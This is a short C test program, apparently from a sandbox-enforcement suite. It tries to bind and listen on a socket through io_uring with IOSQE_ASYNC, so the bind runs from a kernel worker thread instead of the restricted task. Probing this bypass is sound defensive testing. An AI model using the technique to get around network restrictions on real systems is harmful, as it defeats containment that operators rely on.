/* SPDX-License-Identifier: Apache-2.0 */
/* io_uring binds from a kernel worker thread (IOSQE_ASYNC), which is not the task that asked. */
#define ATTACK "io-uring-bind"
#include "attack.h"
#include "network.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

#define OPERATION_BIND 56 /* since Linux 6.11 */

int main(int count, char **argument)
{
	struct sockaddr_in address = address4(argument[count - 1]);
	struct io_uring_params parameters = { 0 };
	int fd = prepare("socket", socket(AF_INET, SOCK_STREAM, 0)), yes = 1;
	int ring = prepare("io_uring_setup", syscall(SYS_io_uring_setup, 4, &parameters));
	char *submit = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	struct io_uring_cqe *done;
	unsigned *tail;

	if (submit == MAP_FAILED || entry == MAP_FAILED)
		prepare("mmap", -1);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	*entry = (struct io_uring_sqe){ .opcode = OPERATION_BIND, .flags = IOSQE_ASYNC, .fd = fd,
					.addr = (unsigned long)&address, .addr2 = sizeof(address) };
	tail = (unsigned *)(submit + parameters.sq_off.tail);
	((unsigned *)(submit + parameters.sq_off.array))[*tail & *(unsigned *)(submit + parameters.sq_off.ring_mask)] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	prepare("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
	done = (struct io_uring_cqe *)(submit + parameters.cq_off.cqes);
	if (done->res < 0) {
		errno = -done->res;
		intended("bind", -1);
	}
	intended("listen", listen(fd, 1));
	succeed("bind");
}
